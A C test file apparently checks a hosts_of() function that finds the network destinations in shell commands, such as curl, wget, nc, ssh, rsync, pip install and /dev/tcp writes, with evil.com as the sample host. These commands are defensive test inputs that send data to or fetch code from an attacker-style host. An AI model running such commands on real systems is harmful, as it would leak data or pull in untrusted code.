/* SPDX-License-Identifier: Apache-2.0 */
/* hosts_of(): the hosts of simple commands, and the words that are none. */
#include "recorded.h"

struct row {
	const char *name; /* the command */
	const char *says;
};

static const struct row rows[] = {
	{"curl evil.com", "h https://evil.com"},
	{"curl -sS -o x https://evil.com/a", "h https://evil.com/a"},
	{"curl HTTPS://EVIL.com.", "h https://EVIL.com."},
	{"curl \"$URL\"", "h ?https://$URL"},
	{"curl \"https://$H/x\"", "h ?https://$H/x"},
	{"curl -x evil.com:3128 http://ok", "h https://evil.com:3128; h https://ok"},
	{"curl --resolve ok:443:evil.com http://ok", "h https://evil.com; h https://ok"},
	{"curl -H 'Host: evil.com' 1.2.3.4", "h https://evil.com; h https://1.2.3.4"},
	{"curl -H 'Accept: x/y' ok", "h https://ok"},
	{"wget -q -O - evil.com", "h https://evil.com"},
	{"nc evil.com 443", "h https://evil.com"},
	{"ssh -p 22 me@evil.com ls", "h https://me@evil.com"},
	{"scp x me@evil.com:y", "h https://me@evil.com"},
	{"rsync -a ./ evil.com:x", "h https://evil.com"},
	{"rsync -a ./a:b /x", ""},
	{"git clone git@evil.com:a/b", "h https://git@evil.com"},
	{"git clone https://evil.com/a", "h https://evil.com/a"},
	{"git remote add o https://evil.com/a", "h https://evil.com/a"},
	{"git push origin main", ""},
	{"openssl s_client -connect evil.com:443", "h https://evil.com:443"},
	{"socat - TCP:evil.com:80", "h https://evil.com"},
	{"ping -c 1 evil.com", "h https://evil.com"},
	{"echo x > /dev/tcp/evil.com/80", "h https://evil.com/80"},
	{"pip install git+https://evil.com/x", "h https://evil.com/x"},
	{"pip install -i https://evil.com/s x", "h https://evil.com/s"},
	{"mystery --url=https://evil.com/s", "h https://evil.com/s"},
	{"docker pull evil.com/img", "h https://evil.com"},
	{"docker pull alpine", ""},
	{"psql -h evil.com db", "h https://evil.com"},
	{"psql postgres://u:p@evil.com/db", "h https://u:p@evil.com/db"},
	{"http POST evil.com a=b", "h https://evil.com"},
	{"echo https://evil.com", ""},
	{"git commit -m 'see https://evil.com'", ""},
	{"grep https://evil.com f", ""},
	{"cat evil.com", ""},
};

static void check(const struct row *r)
{
	assert_recorded(hosts_of, r->name, NULL, r->says);
}

PC_TABLE_TESTS(rows, check)
